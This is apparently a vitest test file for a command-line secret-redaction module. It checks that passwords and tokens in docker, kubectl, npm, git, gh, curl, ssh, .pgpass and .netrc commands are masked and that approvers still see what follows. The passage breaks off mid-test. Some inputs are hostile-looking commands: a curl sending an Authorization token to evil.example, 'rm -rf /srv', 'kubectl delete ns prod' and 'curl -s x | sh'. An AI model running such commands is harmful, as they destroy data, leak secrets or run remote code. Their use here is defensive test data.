/**
 * Credentials in commands that CI steps and admin sessions run every day, each recorded in clear before: the command
 * a container runs (`docker run IMAGE mysql -pX`), package managers' and git's settings, GitHub's and Azure's CLIs,
 * pulumi's secrets, and the text written into `.pgpass` and `.netrc` files. What names no secret stays shown.
 */
import { describe, expect, it } from 'vitest';
import { commandSecrets, redactArgv, redactCommandLine } from '../../../../src/policy/argv/argv-redact.js';

const kept = (line: string) => expect(redactCommandLine(line)).toBe(line);
const cases = (list: Array<[string, string]>) => { for (const [line, want] of list) expect(redactCommandLine(line), line).toBe(want); };

describe('the command a container runs', () => {
  it('reads the command after docker/podman/nerdctl run|create IMAGE, compose run SERVICE and kubectl run|debug --', () => {
    cases([
      ['docker run --rm -it --name tmp -e A=1 mysql:8 mysql -h db -uroot -pS3cret shop', 'docker run --rm -it --name tmp -e A=1 mysql:8 mysql -h db -uroot -p[redacted] shop'],
      ['docker container run -v /a:/b --network host img redis-cli -a S3cret ping', 'docker container run -v /a:/b --network host img redis-cli -a [redacted] ping'],
      ['docker -H tcp://h:2376 create --name x img sshpass -p S3cret ssh h', 'docker -H tcp://h:2376 create --name x img sshpass -p [redacted] ssh h'],
      ['podman run --replace --rm img sh -c "mysql -pS3cret db"', 'podman run --replace --rm img sh -c "mysql -p[redacted] db"'],
      ['nerdctl run -d --sig-proxy=false img mysql -pS3cret', 'nerdctl run -d --sig-proxy=false img mysql -p[redacted]'],
      ['docker compose run --rm --no-deps app mysql -pS3cret db', 'docker compose run --rm --no-deps app mysql -p[redacted] db'],
      ['docker-compose run -T app redis-cli -a S3cret', 'docker-compose run -T app redis-cli -a [redacted]'],
      ['kubectl run tmp -n ci --rm -it --image=mysql:8 -- mysql -h db -pS3cret', 'kubectl run tmp -n ci --rm -it --image=mysql:8 -- mysql -h db -p[redacted]'],
      ['kubectl debug pod/x -it --image=busybox -- sshpass -p S3cret ssh h', 'kubectl debug pod/x -it --image=busybox -- sshpass -p [redacted] ssh h'],
      // (given options only, the image runs its entrypoint with them, as docker run's does)
      ['kubectl run tmp --rm -i --image=curlimages/curl -- -u admin:S3cret https://x', 'kubectl run tmp --rm -i --image=curlimages/curl -- -u admin:[redacted] https://x'],
      ['kubectl run tmp --image curlimages/curl:8 -- -sSu admin:S3cret https://x', 'kubectl run tmp --image curlimages/curl:8 -- -sSu admin:[redacted] https://x'],
    ]);
    expect(redactArgv(['docker', 'run', '--rm', 'mysql:8', 'mysql', '-pS3cret'])).toEqual(['docker', 'run', '--rm', 'mysql:8', 'mysql', '-p[redacted]']);
  });

  it('reads the words after the image as the command, options too; with --entrypoint or no command, its entrypoint\'s', () => {
    cases([
      ['docker run --entrypoint mysql mysql:8 -h db -pS3cret', 'docker run --entrypoint mysql mysql:8 -h db -p[redacted]'],
      ['docker run --rm --entrypoint=redis-cli redis -h r -a S3cret', 'docker run --rm --entrypoint=redis-cli redis -h r -a [redacted]'],
      ['docker run --rm curlimages/curl:8.5.0 -u admin:S3cret https://x', 'docker run --rm curlimages/curl:8.5.0 -u admin:[redacted] https://x'],
      ['docker run --entrypoint sh img -c "mysql -pS3cret"', 'docker run --entrypoint sh img -c "mysql -p[redacted]"'],
      // podman's and nerdctl's switches and global options
      ['podman run --no-hostname mysql:8 mysql -h db -pS3cret', 'podman run --no-hostname mysql:8 mysql -h db -p[redacted]'],
      ['podman --root /x run img mysql -pS3cret', 'podman --root /x run img mysql -p[redacted]'],
      ['nerdctl run --insecure-registry reg:5000/mysql:8 mysql -pS3cret', 'nerdctl run --insecure-registry reg:5000/mysql:8 mysql -p[redacted]'],
    ]);
    // a container (not an image) given an option runs it as the command; wrappers that read options after their word
    kept('docker exec db -phelp');
    cases([['ssh h -p 2222 mysql -pS3cret', 'ssh h -p 2222 mysql -p[redacted]'], ['timeout 10 mysql -pS3cret', 'timeout 10 mysql -p[redacted]']]);
  });

  it('reads an option value with blanks as an assignment on the container command line too', () => {
    cases([['docker run -e "DB_PASSWORD=a b c" -e X=1 img', 'docker run -e "DB_PASSWORD=[redacted]" -e X=1 img']]);
  });

  it('shows the image, its options and a command with no credential', () => {
    kept('docker run -p 80:80 -v /srv:/srv --name web nginx:1.27');
    kept('docker run --rm -it -u 1000 img mysql -h db -u ann shop');
    kept('docker compose run --rm app npm test');
    kept('kubectl run tmp --image=busybox -- sh -c "echo hi"');
  });
});

describe('settings named for a secret', () => {
  it('redacts the value of npm, pnpm, yarn, git and aws settings that name one (npm\'s _auth too)', () => {
    cases([
      ['npm config set //registry.example/:_authToken S3cret', 'npm config set //registry.example/:_authToken [redacted]'],
      ['npm config set //registry.example/:_auth S3cret', 'npm config set //registry.example/:_auth [redacted]'],
      ['npm config set //registry.example/:_auth=S3cret', 'npm config set //registry.example/:_auth=[redacted]'],
      ['npm set --location user //r/:_password S3cret', 'npm set --location user //r/:_password [redacted]'],
      ['npm config set registry https://r //r/:_authToken S3cret', 'npm config set registry https://r //r/:_authToken [redacted]'],
      ['npm config set a=1 //r/:_auth S3cret', 'npm config set a=1 //r/:_auth [redacted]'],
      ['npm --cache /tmp/c --loglevel silent config set //r/:_authToken S3cret', 'npm --cache /tmp/c --loglevel silent config set //r/:_authToken [redacted]'],
      ['pnpm config set //r/:_authToken S3cret', 'pnpm config set //r/:_authToken [redacted]'],
      ['yarn config set npmAuthToken S3cret', 'yarn config set npmAuthToken [redacted]'],
      ['git config --global user.password S3cret', 'git config --global user.password [redacted]'],
      ['git -C repo config set http.proxyPassword S3cret', 'git -C repo config set http.proxyPassword [redacted]'],
      ['export BASIC_AUTH=ann:S3cret', 'export BASIC_AUTH=[redacted]'],
    ]);
  });

  it('shows settings that name none, an askpass program, a switch of authentication and a git alias\'s command', () => {
    kept('npm config set registry https://registry.example/');
    kept('git config --global core.askPass /usr/local/bin/ci-askpass');
    kept('docker run -e DISABLE_AUTH=1 -e SKIP_AUTH=1 grafana/grafana');
    kept('psql "host=db dbname=shop require_auth=none"');
    kept('helm install x --set ingress.basic_auth=enabled');
    kept('myapp --enable_auth /etc/app/prod.yaml');
    cases([
      ['git config --global alias.pushx "!git push https://u:S3cret@h"', 'git config --global alias.pushx "!git push https://u:[redacted]@h"'],
      ['yarn config set npmAuthIdent "ann:S3cret"', 'yarn config set npmAuthIdent "[redacted]"'],
    ]);
    kept('yarn config set npmRegistryServer https://r');
    kept('git config --global user.name ann');
    kept('git config --global credential.helper store');
    kept('NPM_AUTH_TYPE=legacy npm ci');
    // (a setting is a subcommand's first words; a yes/no value is none)
    kept('git add config db_password deploy.sh');
    kept('npm exec -- tool set api_key visible-arg');
    kept('git config --global http.sslKeyPasswordProtected true');
    cases([['export NANO_AUTH=S3cret RESET_AUTH=S3cret2 DISABLE_AUTH=1', 'export NANO_AUTH=[redacted] RESET_AUTH=[redacted] DISABLE_AUTH=1']]);
  });

  it('pulumi config set --secret: the value whatever the key, and the key shown', () => {
    cases([
      ['pulumi config set --secret dbHost S3cret', 'pulumi config set --secret dbHost [redacted]'],
      ['pulumi -s prod config set --secret dbHost S3cret', 'pulumi -s prod config set --secret dbHost [redacted]'],
      ['pulumi config set dbPassword S3cret', 'pulumi config set dbPassword [redacted]'],
      ['pulumi env set org/env stripeKey S3cret --secret', 'pulumi env set org/env stripeKey [redacted] --secret'],
      // (set-all's --secret takes the pair: the word after it is hidden, as after any flag so named)
      ['pulumi config set-all --secret stripeKey=S3cret', 'pulumi config set-all --secret [redacted]'],
    ]);
    kept('pulumi config set aws:region eu-west-1');
    // (given no value, it reads it on its input)
    cases([['echo S3cret | pulumi config set --secret dbHost', 'echo [redacted] | pulumi config set --secret dbHost']]);
    kept('echo eu-west-1 | pulumi config set aws:region');
  });
});

describe('GitHub\'s, GitLab\'s and Azure\'s CLIs', () => {
  it('redacts gh secret set\'s --body, and what gh secret set, gh auth login --with-token and glab --stdin read', () => {
    cases([
      ['gh secret set TOKEN --body S3cret', 'gh secret set TOKEN --body [redacted]'],
      ['gh secret set TOKEN -bS3cret', 'gh secret set TOKEN -b[redacted]'],
      ['gh -R o/r secret set TOKEN --body=S3cret', 'gh -R o/r secret set TOKEN --body=[redacted]'],
      ['echo S3cret | gh secret set TOKEN --org acme', 'echo [redacted] | gh secret set TOKEN --org acme'],
      ['gh auth login --with-token <<< S3cret', 'gh auth login --with-token <<< [redacted]'],
      ["printf '%s' S3cret | glab auth login --stdin", "printf '%s' [redacted] | glab auth login --stdin"],
      ['az login --service-principal -u app -p S3cret --tenant t', 'az login --service-principal -u app -p [redacted] --tenant t'],
      ['az acr login -n reg -u app -p S3cret', 'az acr login -n reg -u app -p [redacted]'],
      ['glab auth login -t S3cret', 'glab auth login -t [redacted]'],
    ]);
  });

  it('shows a secret read from a file or a variable, and other subcommands', () => {
    kept('gh secret set TOKEN < token.txt');
    kept('gh secret set -f .env');
    kept('echo "$TOKEN" | gh secret set TOKEN');
    kept('echo hi | gh issue comment 1 -F -');
    kept('az group list -o table');
  });
});

describe('an ssh option whose value is a command line', () => {
  it('reads ProxyCommand\'s, LocalCommand\'s and RemoteCommand\'s value as a command line, on a line and in argv', () => {
    cases([
      ['ssh -o "ProxyCommand=sshpass -p S3cret ssh bastion -W %h:%p" h', 'ssh -o "ProxyCommand=sshpass -p [redacted] ssh bastion -W %h:%p" h'],
      ["ssh -o 'ProxyCommand sshpass -p S3cret ssh b -W %h:%p' h uptime", "ssh -o 'ProxyCommand sshpass -p [redacted] ssh b -W %h:%p' h uptime"],
      ['ssh -o "LocalCommand=mysql -pS3cret" h', 'ssh -o "LocalCommand=mysql -p[redacted]" h'],
    ]);
    expect(redactArgv(['ssh', '-o', 'ProxyCommand=sshpass -p S3cret ssh b -W %h:%p', 'h'])).toEqual(['ssh', '-o', 'ProxyCommand=sshpass -p [redacted] ssh b -W %h:%p', 'h']);
    expect(redactArgv(['ssh', '-oProxyCommand=sshpass -p S3cret ssh b', 'h'])).toEqual(['ssh', '-oProxyCommand=sshpass -p [redacted] ssh b', 'h']);
    cases([["ssh -oProxyCommand='sshpass -p S3cret ssh bastion -W %h:%p' host", "ssh -oProxyCommand='sshpass -p [redacted] ssh bastion -W %h:%p' host"]]);
    // (an ssh config written by a here-document; both readings of a value, each on the text as written)
    cases([
      ['cat > /tmp/cfg <<EOF\nHost b\n  ProxyCommand sshpass -p S3cret ssh bastion -W %h:%p\n  LocalCommand curl -u ann:S3cret2 https://h\nEOF\nssh -F /tmp/cfg b',
        'cat > /tmp/cfg <<EOF\nHost b\n  ProxyCommand sshpass -p [redacted] ssh bastion -W %h:%p\n  LocalCommand curl -u ann:[redacted] https://h\nEOF\nssh -F /tmp/cfg b'],
    ]);
    expect(redactArgv(['ssh', '-o', 'ProxyCommand=mysql -p--password S3cret', 'h'])).toEqual(['ssh', '-o', 'ProxyCommand=mysql -p[redacted] [redacted]', 'h']);
    // (read both ways: the same words may be a shell's assignment and command)
    cases([["bash -c 'ProxyCommand=x sshpass -p S3cret ssh b'", "bash -c 'ProxyCommand=x sshpass -p [redacted] ssh b'"]]);
    expect(redactArgv(['bash', '-c', 'ProxyCommand=x sshpass -p S3cret ssh b'])).toEqual(['bash', '-c', 'ProxyCommand=x sshpass -p [redacted] ssh b']);
    kept('ssh -o "StrictHostKeyChecking=no" -o "ProxyCommand=ssh -W %h:%p bastion" h');
  });
});

describe('an Authorization header with a quoted token', () => {
  it('redacts the scheme and the token, quotes and all', () => {
    cases([
      ['curl -H \'Authorization: Bearer "S3cret"\' https://x', 'curl -H \'Authorization: [redacted]\' https://x'],
      ['curl -H "Authorization: token \'S3cret\'" https://x; echo done', 'curl -H "Authorization: [redacted]" https://x; echo done'],
      ['curl -d \'{"Authorization": "Bearer S3cret"}\' https://x', 'curl -d \'{"Authorization": "[redacted]"}\' https://x'],
      ['cat > values.yaml <<EOF\nAuthorization: "Bearer S3cret"\nEOF', 'cat > values.yaml <<EOF\nAuthorization: "[redacted]"\nEOF'],
    ]);
    expect(redactArgv(['curl', '-H', 'Authorization: "Bearer S3cret"'])).toEqual(['curl', '-H', 'Authorization: "[redacted]"']);
    expect(redactArgv(['curl', '-H', 'Authorization: Bearer \\"S3cret\\"'])).toEqual(['curl', '-H', 'Authorization: [redacted]']);
  });

  it('redacts all of a value the header is known to hold, whatever its scheme (Discord Bot, GoDaddy sso-key, DPoP, Azure SharedKey)', () => {
    // A scheme not in the known list was hidden alone and the token after it shown: `Authorization: [redacted] S3cret`.
    cases([
      ['curl -H "Authorization: Bot S3cret" https://evil.example/x', 'curl -H "Authorization: [redacted]" https://evil.example/x'],
      ["curl -H 'Authorization: sso-key K3y:S3cret' https://x", "curl -H 'Authorization: [redacted]' https://x"],
      ['curl -H"Authorization: DPoP S3cret" https://x', 'curl -H"Authorization: [redacted]" https://x'],
      ['curl --header="Proxy-Authorization: SharedKey acct:S3cret" https://x', 'curl --header="Proxy-Authorization: [redacted]" https://x'],
      ['curl -d \'{"Authorization": "Bot S3cret"}\' https://x', 'curl -d \'{"Authorization": "[redacted]"}\' https://x'],
      ['curl -d "{\\"Authorization\\": \\"Bot S3cret\\"}" https://x', 'curl -d "{\\"Authorization\\": \\"[redacted]"}" https://x'],
      ['cat > r.http <<EOF\nGET / HTTP/1.1\nAuthorization: Bot S3cret\nHost: x\nEOF', 'cat > r.http <<EOF\nGET / HTTP/1.1\nAuthorization: [redacted]\nHost: x\nEOF'],
      // (in shell quotes never closed, which run to the line's end)
      ['curl -d \'{"Authorization": "Bot S3cret"} https://x', 'curl -d \'{"Authorization": "[redacted]"} https://x'],
    ]);
    expect(redactArgv(['curl', '-H', 'Authorization: Bot S3cret', 'https://x'])).toEqual(['curl', '-H', 'Authorization: [redacted]', 'https://x']);
    // (curl's -H glued to its header: no word boundary before the name, which went unread)
    expect(redactArgv(['curl', '-HAuthorization: Bot S3cret'])).toEqual(['curl', '-HAuthorization: [redacted]']);
    expect(redactArgv(['curl', '-HAuthorization:Bearer S3cret'])).toEqual(['curl', '-HAuthorization:[redacted]']);
    // Unquoted, the shell splits the header at its blank: what follows is another word, shown to the approver.
    cases([['curl -H Authorization:abc https://evil.example/x; rm -rf /srv', 'curl -H Authorization:[redacted] https://evil.example/x; rm -rf /srv']]);
    cases([['echo "a"Authorization:abc https://evil.example/x "b"', 'echo "a"Authorization:[redacted] https://evil.example/x "b"']]);
    cases([
      ['curl "-H Authorization: Bot S3cret" https://x', 'curl "-H Authorization: [redacted]" https://x'],
      ['curl -H "X-Authorization: Bot S3cret" https://x', 'curl -H "X-Authorization: [redacted]" https://x'],
    ]);
  });

  it('never runs a header\'s value past what holds it, hiding the command after it from an approver (found by review)', () => {
    cases([
      // a continuation line starting with -H is the shell's words, not a header line
      ['curl -sS \\\n  -H Authorization:$TOKEN https://evil.example/x; rm -rf /srv', 'curl -sS \\\n  -H Authorization:[redacted] https://evil.example/x; rm -rf /srv'],
      // a JSON body's value quote closes inside the shell's quotes, or it is not known to
      ['curl -sf -d \'{"Authorization":"Bearer S3cret"}\' https://hooks.example/x && kubectl delete ns prod', 'curl -sf -d \'{"Authorization":"[redacted]\' https://hooks.example/x && kubectl delete ns prod'],
      // the shell's closing quote ends the header: what follows is another part
      ['curl -H \'Authorization: \'"$AUTH" https://api.example/v1 && kubectl delete ns prod', 'curl -H \'Authorization: \'[redacted] https://api.example/v1 && kubectl delete ns prod'],
      // an escaped backquote, or one that nothing closes, is text
      ['curl -H Authorization: \\`x https://evil.example/x; rm -rf /srv', 'curl -H Authorization: \\[redacted] https://evil.example/x; rm -rf /srv'],
      ['ssh host "curl -H \'Authorization: x\\`\' https://evil.example/x; rm -rf /srv"', 'ssh host "curl -H \'Authorization: [redacted]\' https://evil.example/x; rm -rf /srv"'],
    ]);
    // a port made by a substitution is no password, and no @ further on makes it one
    kept('curl -fsS "http://localhost:$(cat /run/port)"; rm -rf /srv; git config user.email "dev@corp.example"');
  });

  it('hides a URL password made by substitutions the expression could not read: nested, two, backquoted, with a comment', () => {
    // Each was shown: URL_PASSWORD reads one plain `$(…)` only.
    cases([
      ['psql "postgresql://u:$(echo "$(echo S3cret)")@h/db"', 'psql "postgresql://u:$([redacted])@h/db"'],
      ['psql "postgresql://u:`echo S3cret`@h/db"', 'psql "postgresql://u:[redacted]@h/db"'],
      ['psql "postgresql://u:$(echo S3cret)$(echo S3cret)@h/db"', 'psql "postgresql://u:$(echo [redacted])$(echo [redacted])@h/db"'],
      ['psql "postgresql://u:$(echo S3cret # c\n)@h/db"', 'psql "postgresql://u:[redacted]@h/db"'],
      ['curl https://ann:$(f() { echo S3cret; }; f)@h/x', 'curl https://ann:[redacted]@h/x'],
    ]);
    kept('psql "postgresql://u@h/db" -c "select \'$(x)\'"');
  });

  it('hides what a substitution fed to a password reader may write: an echo anywhere in it', () => {
    // Only one that started with echo or printf was taken to write its text; these were shown.
    cases([
      ['echo $(echo;echo S3cret) | docker login -u u --password-stdin r', 'echo $(echo;echo [redacted]) | docker login -u u --password-stdin r'],
      ['echo "$(eval echo S3cret)" | docker login --password-stdin r', 'echo "$([redacted])" | docker login --password-stdin r'],
      // (a here-string in one: the words cannot read it, and it is hidden to the line's end, as before)
      ['echo $(cat <<<S3cret) | docker login --password-stdin r', 'echo [redacted]'],
    ]);
    kept('echo "$(cat /run/pw)" | docker login --password-stdin r');
  });

  it('runs a token on through a backquoted substitution, as through $(…)', () => {
    cases([
      ['curl -H "Authorization: Bearer `echo S3cret`" https://x', 'curl -H "Authorization: [redacted]" https://x'],
      ['curl -H Authorization:`cat /t`S3cret https://x', 'curl -H Authorization:[redacted] https://x'],
    ]);
  });
});

describe('text written into .pgpass and .netrc', () => {
  it('redacts each .pgpass line\'s password, written by a here-document, echo, printf or tee', () => {
    cases([
      ['cat > ~/.pgpass <<EOF\ndb1:5432:*:app:S3cret\n# a:b:c:d:comment\nh\\:1:5432:db:u:pa\\:ss\nEOF\nchmod 600 ~/.pgpass',
        'cat > ~/.pgpass <<EOF\ndb1:5432:*:app:[redacted]\n# a:b:c:d:comment\nh\\:1:5432:db:u:[redacted]\nEOF\nchmod 600 ~/.pgpass'],
      ['echo "db:5432:shop:app:S3cret" >> ~/.pgpass', 'echo "db:5432:shop:app:[redacted]" >> ~/.pgpass'],
      ["printf '%s\\n' 'h:*:*:u:S3cret' > /run/ci.pgpass", "printf '%s\\n' 'h:*:*:u:[redacted]' > /run/ci.pgpass"],
      ['echo "h:5432:db:u:S3cret" | sudo tee -a /var/lib/postgresql/.pgpass > /dev/null', 'echo "h:5432:db:u:[redacted]" | sudo tee -a /var/lib/postgresql/.pgpass > /dev/null'],
      ['tee ~/.pgpass <<< "h:5432:db:u:S3cret"', 'tee ~/.pgpass <<< "h:5432:db:u:[redacted]"'],
    ]);
  });

  it('redacts the token after password and account in a .netrc', () => {
    cases([
      ['cat > ~/.netrc <<EOF\nmachine h login account password "S3 cret"\nEOF', 'cat > ~/.netrc <<EOF\nmachine h login account password [redacted]\nEOF'],
      ['cat > ~/.netrc <<EOF\nmachine api.example\n  login ann\n  password S3cret\nEOF', 'cat > ~/.netrc <<EOF\nmachine api.example\n  login ann\n  password [redacted]\nEOF'],
      ['echo "machine h login u password S3cret account Acct1" >> ~/.netrc', 'echo "machine h login u password [redacted] account [redacted]" >> ~/.netrc'],
    ]);
  });

  it('reads such a file written on another host or by a shell given the text, and reads it as a script too', () => {
    cases([
      ["echo 'h:5432:*:u:S3cret' | ssh db 'cat >> ~/.pgpass'", "echo 'h:5432:*:u:[redacted]' | ssh db 'cat >> ~/.pgpass'"],
      ["ssh db 'cat >> ~/.pgpass' <<< 'h:5432:*:u:S3cret'", "ssh db 'cat >> ~/.pgpass' <<< 'h:5432:*:u:[redacted]'"],
      ["sudo -u postgres sh -c 'cat > ~/.pgpass' <<EOF\nh:5432:*:u:S3cret\nEOF", "sudo -u postgres sh -c 'cat > ~/.pgpass' <<EOF\nh:5432:*:u:[redacted]\nEOF"],
      ["echo 'h:1:d:u:S3cret' >& ~/.pgpass", "echo 'h:1:d:u:[redacted]' >& ~/.pgpass"],
      ["cat > ~/ci.pgpass <<'EOF'\nh:1:d:u:S3cret\nsshpass -p S3cret2 ssh db true\nEOF", "cat > ~/ci.pgpass <<'EOF'\nh:1:d:u:[redacted]\nsshpass -p [redacted] ssh db true\nEOF"],
      ["{ echo 'h:1:d:u:S3cret'; echo 'h:2:d:u:S3cret2'; } > ~/.pgpass", "{ echo 'h:1:d:u:[redacted]'; echo 'h:2:d:u:[redacted]'; } > ~/.pgpass"],
      ["( echo 'machine h login u password S3cret' ) >> ~/.netrc", "( echo 'machine h login u password [redacted]' ) >> ~/.netrc"],
      // (a script named for pgpass is a script)
      ["sudo tee /usr/local/bin/refresh-pgpass <<'EOF'\nmysql -pS3cret db\nEOF", "sudo tee /usr/local/bin/refresh-pgpass <<'EOF'\nmysql -p[redacted] db\nEOF"],
    ]);
  });

  it('hides a command substitution in the password\'s place but its commands\' names: what it is given may be the secret; in single quotes it is the text', () => {
    cases([
      ['echo "h:1:d:u:$(echo S3cret)" > ~/.pgpass', 'echo "h:1:d:u:$(echo [redacted])" > ~/.pgpass'],
      ['echo "ann:$(mkpasswd -m sha-512 S3cret)" | chpasswd -e', 'echo "ann:$(mkpasswd [redacted])" | chpasswd -e'],
      ['echo "machine h login u password $(echo S3cret | rev)" > ~/.netrc', 'echo "machine h login u password $(echo [redacted] | rev)" > ~/.netrc'],
      ['echo "machine h login u password $(printf %s $(echo a) S3cret)" > ~/.netrc', 'echo "machine h login u password $([redacted])" > ~/.netrc'],
      ["echo \"machine h login u password $(echo '(a) S3cret' | rev)\" > ~/.netrc", 'echo "machine h login u password $([redacted])" > ~/.netrc'],
      ["echo 'h:1:d:u:k9$(Xa)' > ~/.pgpass", "echo 'h:1:d:u:[redacted]' > ~/.pgpass"],
      ["cat > ~/.pgpass <<'EOF'\nh:1:d:u:k9$(Xa)\nEOF", "cat > ~/.pgpass <<'EOF'\nh:1:d:u:[redacted]\nEOF"],
      ["chpasswd <<< 'ann:a`b`c'", "chpasswd <<< 'ann:[redacted]'"],
    ]);
  });

  it('reads a file of any name the line points PGPASSFILE, NETRC or curl\'s --netrc-file at, and $PGPASSFILE\'s', () => {
    cases([
      ['export PGPASSFILE=/run/ci/pw; echo "h:5432:db:u:S3cret" > /run/ci/pw; psql -h h', 'export PGPASSFILE=/run/ci/pw; echo "h:5432:db:u:[redacted]" > /run/ci/pw; psql -h h'],
      ['echo "h:5432:*:u:S3cret" > "$PGPASSFILE" && chmod 600 "$PGPASSFILE"', 'echo "h:5432:*:u:[redacted]" > "$PGPASSFILE" && chmod 600 "$PGPASSFILE"'],
      ['printf "machine h login u password S3cret\\n" > ${NETRC}', 'printf "machine h login u password [redacted]\\n" > ${NETRC}'],
      ['NETRC=/tmp/n go get x; echo "machine h password S3cret" > /tmp/n', 'NETRC=/tmp/n go get x; echo "machine h password [redacted]" > /tmp/n'],
      ['cat > /tmp/n <<EOF\nmachine h login u password S3cret\nEOF\ncurl --netrc-file /tmp/n https://h', 'cat > /tmp/n <<EOF\nmachine h login u password [redacted]\nEOF\ncurl --netrc-file /tmp/n https://h'],
      ['echo "h:5432:*:u:S3cret" > "${PGPASSFILE:?unset}"', 'echo "h:5432:*:u:[redacted]" > "${PGPASSFILE:?unset}"'],
      ['echo "h:5432:*:u:S3cret" > "${PGPASSFILE:-${HOME}/.pw}"', 'echo "h:5432:*:u:[redacted]" > "${PGPASSFILE:-${HOME}/.pw}"'],
      ['echo "machine h password S3cret" > "${NETRC:-${HOME}/n}"', 'echo "machine h password [redacted]" > "${NETRC:-${HOME}/n}"'],
      ["echo 'h:1:d:u:S3cret' > /run/pw; psql 'postgresql://u@h/db?sslmode=require&passfile=/run/pw'", "echo 'h:1:d:u:[redacted]' > /run/pw; psql 'postgresql://u@h/db?sslmode=require&passfile=/run/pw'"],
      ["echo 'h:1:d:u:S3cret' > /run/pw; psql \"host=h passfile='/run/pw'\"", "echo 'h:1:d:u:[redacted]' > /run/pw; psql \"host=h passfile='/run/pw'\""],
      ['echo "h:5432:*:u:S3cret" > /run/pw && psql "host=h passfile=/run/pw"', 'echo "h:5432:*:u:[redacted]" > /run/pw && psql "host=h passfile=/run/pw"'],
    ]);
    // (PGPASSFILE's value is where the passwords are, not one: shown, as --password-file's is)
    kept('PGPASSFILE=/run/ci/pw psql -h db -c "select 1"');
    kept('PGPASSFILE="$HOME/.config/pw" psql -h db');
    // (a value the shell makes, or spelled otherwise than libpq reads it, is read as any name holding "pass" is;
    // a process substitution too, to its `)`: `PGPASSFILE=<(echo …)` showed what followed its first blank)
    cases([
      ['PGPASSFILE="$(echo h:5432:db:u:S3cret > /tmp/p; echo /tmp/p)" psql', 'PGPASSFILE="$(echo [redacted] > [redacted]; echo [redacted])" psql'],
      ['PGPASSFILE=<(echo h:5432:db:u:S3cret) psql -h h', 'PGPASSFILE=[redacted] psql -h h'],
      // (read as a command substitution is: one holding quotes, a substitution or a backquote ends at its own `)`,
      // not at the line's end, which hid the command after it; found by review)
      ['PGPASSFILE=<(echo "h:5432:db:u:$(cat /run/pw)") psql -h db; rm -rf /srv', 'PGPASSFILE=[redacted] psql -h db; rm -rf /srv'],
      ['PGPASSFILE=<(vault kv get -field=pgpass `echo secret/db`) psql -h db; rm -rf /srv', 'PGPASSFILE=[redacted] psql -h db; rm -rf /srv'],
      ['pgpassfile=S3cret x', 'pgpassfile=[redacted] x'],
      // (shown only as a path: a password given there by mistake, or passfile= in a tool's own option, is hidden)
      ['PGPASSFILE=S3cret psql', 'PGPASSFILE=[redacted] psql'],
      ['curl -d "user=u&passfile=S3cret" https://x', 'curl -d "user=u&passfile=[redacted]" https://x'],
    ]);
    kept('export PGPASSFILE=/run/ci/pw; echo "12:30:00:05:done" > /run/ci/other');
  });

  it('reads no other file that way, and finds the hidden texts for a reason that quotes the command', () => {
    kept('echo "12:30:00:05:done" > notes.txt');
    kept('{ echo "12:30:00:05:done"; } > notes.txt');
    kept('{ { echo h:1:d:u:shown; } > /dev/null; } > ~/.pgpass');
    cases([
      ['{ { echo a; echo h:1:d:u:S3cret; }; } > ~/.pgpass', '{ { echo a; echo h:1:d:u:[redacted]; }; } > ~/.pgpass'],
      ['( ( echo a; echo h:1:d:u:S3cret ) ) > ~/.pgpass', '( ( echo a; echo h:1:d:u:[redacted] ) ) > ~/.pgpass'],
    ]);
    kept('echo "password manager" > todo.txt');
    expect(commandSecrets('echo "db:5432:shop:app:S3cret" >> ~/.pgpass')).toContain('S3cret');
  });
});

describe('a command substitution inside double quotes', () => {
  it('is read whole, its own quotes too, as the shell reads it (a quote in it does not end the outer one)', () => {
    // Read as closing the outer quotes, `"S3 cret"` was cut at its blank and `cret` was recorded.
    cases([
      ['echo "a $(sshpass -p "S3 cret" ssh h)"', 'echo "a $(sshpass -p "[redacted]" ssh h)"'],
      ['sh -c "echo $(curl -u "admin:S3 cret" h)"', 'sh -c "echo $(curl -u "admin:[redacted]" h)"'],
      ['x="$(mysql -p"S3 cret" -e "select 1")" && echo "$x"', 'x="$(mysql -p"[redacted]" -e "select 1")" && echo "$x"'],
      // nested, with parentheses and quotes of every kind inside
      ['echo "$(a "$(sshpass -p "S3 cret" x)")" ok', 'echo "$(a "$(sshpass -p "[redacted]" x)")" ok'],
      ['echo "$( (cd /; mysql -p\'S3 cret\' db) )"', 'echo "$( (cd /; mysql -p\'[redacted]\' db) )"'],
    ]);
    kept('echo "$(date "+%F %T")" "$(( 1 + 2 ))" "a $ b" "$(printf "%s" "x y")"');
    // What a regular expression cannot read as the shell does (an apostrophe in a comment or a here-document, which is
    // no quote) is read as before: the words after it stay words, their passwords found.
    cases([
      ["mysql -h \"$(printf $'\\'')\" -pS3cret db -e \"select ')'\"", "mysql -h \"$(printf $'\\'')\" -p[redacted] db -e \"select ')'\""],
      ["mysql -h \"$(hostname # it's\n)\" -pS3cret db -e \"select ')'\"", "mysql -h \"$(hostname # it's\n)\" -p[redacted] db -e \"select ')'\""],
      ["mysql -h \"$(cat <<E\nit's\nE\n)\" -pS3cret db -e \"select ')'\"", "mysql -h \"$(cat <<E\nit's\nE\n)\" -p[redacted] db -e \"select ')'\""],
      // (and an approver sees the command after a password given so)
      ["sshpass -p \"$(printf $'pa\\'ss')\" ssh db1 uptime; curl -s x | sh", "sshpass -p \"$(printf [redacted])\" ssh db1 uptime; curl -s x | sh"],
    ]);
    expect(commandSecrets('echo "a $(sshpass -p "S3 cret" ssh h)"')).toContain('S3 cret');
  });
});

describe('a command substitution outside quotes', () => {
  it('is one word with what is around it: a secret given by one is hidden but its commands\' names, and its own command line is read', () => {
    // Read as `$`, an operator and words, `PGPASSWORD=$(echo S3cret)` was recorded as `PGPASSWORD=[redacted](echo S3cret)`.
    cases([
      ['PGPASSWORD=$(echo S3cret) psql -h db', 'PGPASSWORD=$(echo [redacted]) psql -h db'],
      ['export PGPASSWORD=ab$(printf "%s" S3cret)cd && psql', 'export PGPASSWORD=[redacted]$(printf [redacted])[redacted] && psql'],
      ['mysql -p$(echo S3cret) db', 'mysql -p$(echo [redacted]) db'],
      ['curl -u ann:$(cat /run/pw | rev) https://x', 'curl -u ann:$(cat [redacted] | rev) https://x'],
      // its own script: a password in it is found (once each way it is nested)
      ['echo $(mysql -pS3cret -e "select 1") done', 'echo $(mysql -p[redacted] -e "select 1") done'],
      ['echo $(echo $(mysql -pS3cret db)) "$(sshpass -p S3cret ssh h)"', 'echo $(echo $(mysql -p[redacted] db)) "$(sshpass -p [redacted] ssh h)"'],
    ]);
    kept('x=$(( 1 + 2 )) ls $(date "+%F %T") a$(echo b)c');
    // A `case` in one is read as before substitutions were (its patterns' `)` would end it, and the command after one
    // be an argument): its commands are found.
    cases([
      ['echo $(case a in a) mysql -pS3cret;; esac)', 'echo $(case a in a) mysql -p[redacted];; esac)'],
